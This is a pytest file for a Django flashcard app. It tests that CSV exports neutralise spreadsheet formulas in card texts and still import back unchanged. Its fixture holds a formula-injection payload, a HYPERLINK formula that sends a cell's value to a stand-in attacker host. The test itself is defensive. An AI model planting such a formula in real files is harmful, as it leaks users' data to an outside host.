"""Card texts in the CSV exports never run as formulas, and the export still imports back exactly."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from cards import imports, services
from cards.models import Note

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def formula_note(card_course) -> Note:
    note = Note.objects.get(course=card_course, key="sigma-max")
    note.front_en, note.back_en = FORMULA, "- a list item\n- another"
    note.save()
    return note


def _rows(content: bytes) -> dict[str, dict]:
    return {row["key"]: row for row in csv.DictReader(io.StringIO(content.decode(), newline=""))}


def test_the_instructors_csv_writes_a_formula_as_text(client, instructor, formula_note):
    client.force_login(instructor)

    content = client.get(reverse("authoring:cards_csv", kwargs={"course": "test-course"})).content

    row = _rows(content)["sigma-max"]
    assert row["front_en"] == "'" + FORMULA
    assert row["back_en"] == "'- a list item\n- another"


def test_the_learners_csv_writes_a_formula_as_text(client, learner, card_course, formula_note):
    services.deck_add(user=learner, course=card_course)
    client.force_login(learner)

    row = _rows(client.get(reverse("cards:export_csv")).content)["sigma-max"]

    assert row["front_en"] == "'" + FORMULA


def test_an_exported_csv_imports_back_without_a_change(client, instructor, card_course, formula_note):
    client.force_login(instructor)
    content = client.get(reverse("authoring:cards_csv", kwargs={"course": "test-course"})).content

    report = imports.card_notes_import(course=card_course, data=content, now=timezone.now())

    assert report.updated == {}
    formula_note.refresh_from_db()
    assert (formula_note.front_en, formula_note.back_en) == (FORMULA, "- a list item\n- another")
